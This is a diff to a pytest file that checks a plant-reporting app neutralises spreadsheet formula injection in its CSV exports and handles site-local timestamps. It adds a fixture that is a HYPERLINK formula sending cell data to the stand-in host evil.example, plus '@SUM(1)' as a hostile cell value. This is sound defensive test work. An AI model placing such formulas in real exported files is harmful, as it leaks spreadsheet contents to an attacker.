@@ -30,6 +30,7 @@ HOSTILE = [
     "+1",
     "-2+3",
     "@SUM(A1)",
+    "@SUM(1)",
     "\tlooks blank, then =1+1",
     "\r=1+1",
     "'=already quoted by hand",
@@ -45,7 +46,7 @@ HARMLESS = [
 # Written by the app from typed values: ids, dates, instants, counts, minutes and enums.
 APP_COLUMNS = {
     "id", "production_date", "good", "scrap", "minutes", "reported_at", "voided_at",
-    "severity", "category", "status", "raised_at",
+    "severity", "category", "status", "raised_at", "acknowledged_at", "resolved_at",
 }  # fmt: skip
 
 
@@ -146,7 +147,7 @@ def test_hostile_notes_are_neutralised_in_the_export_and_imported_back_exactly(
         (str(n), "0") for n in range(1, len(notes) + 1)
     ]
     assert entries[0]["production_date"] == "2026-03-03"
-    assert entries[0]["reported_at"] == "2026-03-03T07:01:00+00:00"
+    assert entries[0]["reported_at"] == "2026-03-03T08:01:00+01:00"  # Riverside's local time
     assert (issues[0]["severity"], issues[0]["status"]) == ("low", "open")
     for row in (*entries, *delays, *issues):
         assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
@@ -198,3 +199,76 @@ def test_hostile_site_line_and_shift_names_are_neutralised_and_still_match_on_im
             .join(Shift, Shift.id == OutputEntry.shift_id)
         ).one()
         assert (line, shift) == ("-L1", "+A")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+
+
+@pytest.mark.usefixtures("loaded_plant")
+def test_hostile_names_and_site_local_times_are_exported_and_imported_back_exactly(
+    tmp_path: Path, session_factory: sessionmaker[Session]
+) -> None:
+    _record(session_factory, [FORMULA, "@SUM(1)"])
+    (tmp_path / "export").mkdir()
+    with session_factory() as session:
+        files = export_csv_files(
+            session, date_from=DAY, date_to=DAY, names={"U0LEAD0001": "@SUM(1)"}
+        )
+    paths = {}
+    for file in files[:2]:
+        paths[file.name.split("-")[0]] = tmp_path / "export" / file.name
+        paths[file.name.split("-")[0]].write_text(file.content, encoding="utf-8")
+    entries, delays = _rows(paths["entries"]), _rows(paths["delays"])
+    assert [row["note"] for row in entries] == ["'" + FORMULA, "'@SUM(1)"]
+    assert {row["reported_by_name"] for row in entries} == {"'@SUM(1)"}
+    assert {row["voided_by_name"] for row in delays} == {"'@SUM(1)"}
+    assert [row["reported_at"] for row in entries] == [
+        "2026-03-03T08:01:00+01:00",  # 07:01 UTC, in Riverside's time
+        "2026-03-03T08:02:00+01:00",
+    ]
+    with session_scope(session_factory) as session:
+        session.execute(delete(OutputEntry))
+        session.execute(delete(DelayEntry))
+
+    assert _import(paths["entries"], session_factory) == 2
+    assert _import(paths["delays"], session_factory) == 2
+
+    assert _notes(session_factory) == ([FORMULA, "@SUM(1)"], [FORMULA, "@SUM(1)"])
+    with session_factory() as session:
+        entry = session.scalars(select(OutputEntry).order_by(OutputEntry.good)).first()
+        delay = session.scalars(select(DelayEntry).order_by(DelayEntry.minutes)).first()
+        assert entry is not None and delay is not None
+        assert (entry.reported_by, entry.reported_at) == (
+            "U0LEAD0001",
+            datetime(2026, 3, 3, 7, 1, tzinfo=UTC),
+        )
+        assert (delay.voided_by, delay.voided_at) == (
+            "U0LEAD0001",
+            datetime(2026, 3, 3, 7, 1, tzinfo=UTC),
+        )
+
+
+OLD_ENTRY_COLUMNS = (
+    "id", "site", "line", "shift", "production_date", "good", "scrap", "note",
+    "reported_by", "reported_at", "voided_at", "voided_by", "void_reason",
+)  # fmt: skip
+
+
+@pytest.mark.usefixtures("loaded_plant")
+def test_a_file_exported_before_names_and_local_times_still_imports(
+    tmp_path: Path, session_factory: sessionmaker[Session]
+) -> None:
+    path = tmp_path / "entries-old.csv"
+    with path.open("w", newline="", encoding="utf-8") as file:
+        writer = csv.writer(file)
+        writer.writerow(OLD_ENTRY_COLUMNS)
+        writer.writerow(
+            [7, "Riverside", "L1", "A", "2026-03-03", 5, 0, "'=1+1", "U0LEAD0001",
+             "2026-03-03T07:01:00+00:00", "", "", ""]
+        )  # fmt: skip
+
+    assert _import(path, session_factory) == 1
+
+    with session_factory() as session:
+        [entry] = session.scalars(select(OutputEntry)).all()
+        assert (entry.note, entry.reported_at) == ("=1+1", datetime(2026, 3, 3, 7, 1, tzinfo=UTC))
